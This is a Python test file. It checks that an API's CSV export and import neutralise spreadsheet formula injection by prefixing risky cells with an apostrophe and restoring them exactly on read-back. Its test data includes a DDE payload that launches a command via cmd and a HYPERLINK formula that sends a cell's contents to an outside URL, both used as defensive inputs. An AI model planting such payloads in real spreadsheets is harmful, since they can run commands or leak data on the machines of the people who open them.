"""No cell of a CSV is a formula to a spreadsheet, and none loses what it said."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from api.http.formats import MARK, csv_lines, neutral
from api.storage.database import engine
from seed.export import export
from seed.files import read
from seed.importers.command import Wish, import_files
from seed.load import load
from tests.support.live import Api, serving

TEXTS = {
    "formula": '=HYPERLINK("http://example.org?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-5 degrees, they said",
    "at": "@SUM(1+1)",
    "apostrophe": "'quoted' from the start",
    "two": "''=1",
    "plain": "nothing to see",
}
FILE = """
dataset = "made-up"
[[datasets]]
id = "made-up"
title = "=1+1"
recorded_at = 2024-01-01T00:00:00Z
[[actors]]
id = "someone"
kind = "person"
name = "-5"
aliases = ["@home", "=2"]
[[locations]]
id = "south"
kind = "area"
name = "South"
point = {longitude = -5, latitude = -12.5, method = "stated"}
phrase = "as far south"
"""
EVENT = """
[[events]]
id = "{id}"
kind = "capture"
title = '''{title}'''
location = "south"
"""


def restored(cell: str) -> str:
    """What a reader that knows of the mark makes of a cell."""
    return cell.removeprefix(MARK)


@pytest.fixture
def made_up(empty_url: str, tmp_path: Path) -> str:
    """A dataset whose titles are formulas."""
    events = "".join(EVENT.format(id=id_, title=title) for id_, title in TEXTS.items())
    file = tmp_path / "made-up.toml"
    file.write_text(FILE + events)
    made = engine(empty_url)
    load(made, read([file]))
    made.dispose()
    return empty_url


@pytest.fixture
def api_of_it(made_up: str) -> Iterator[Api]:
    with serving(made_up) as api:
        yield api


def test_a_spreadsheet_sees_text(api_of_it: Api) -> None:
    rows = {row["id"]: row for row in api_of_it.csv("/events.csv")}
    for id_, title in TEXTS.items():
        cell = rows[id_]["title"]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert restored(cell) == title
        assert cell == (title if id_ == "plain" else f"'{title}")
    (actor,) = api_of_it.csv("/actors.csv")
    assert (actor["name"], actor["aliases"]) == ("'-5", "'@home|=2")


def test_numbers_are_numbers(api_of_it: Api) -> None:
    rows = api_of_it.csv("/events.csv")
    assert {(row["longitude"], row["latitude"]) for row in rows} == {("-5.0", "-12.5")}


def test_a_package_comes_back_as_it_was(made_up: str, tmp_path: Path) -> None:
    export(made_up, tmp_path / "package")
    with (tmp_path / "package" / "events.csv").open(newline="") as stream:
        cells = {row["id"]: row["title"] for row in csv.DictReader(stream)}
    assert {id_: restored(cell) for id_, cell in cells.items()} == TEXTS
    assert cells["formula"].startswith("'=")
    outcome = import_files(made_up, "package", [tmp_path / "package"], Wish(), Console(file=io.StringIO()))
    assert (outcome.refusals, outcome.report.new.total(), outcome.report.changed.total()) == (0, 0, 0)
    assert outcome.report.unchanged["event"] == len(TEXTS)


@given(st.text(alphabet=st.sampled_from("='+-@\t\r\n\"|, a5é"), max_size=8))
def test_every_cell_is_read_back_as_it_was(text: str) -> None:
    assert restored(neutral(text)) == text
    assert not neutral(text).startswith(("=", "+", "-", "@", "\t", "\r"))
    line = csv_lines([{"a": text, "b": -5, "c": None, "d": -0.5}], ["a", "b", "c", "d"], first=False).decode()
    (cells,) = csv.reader(io.StringIO(line, newline=""))
    assert (restored(cells[0]), cells[1:]) == (text, ["-5", "", "-0.5"])
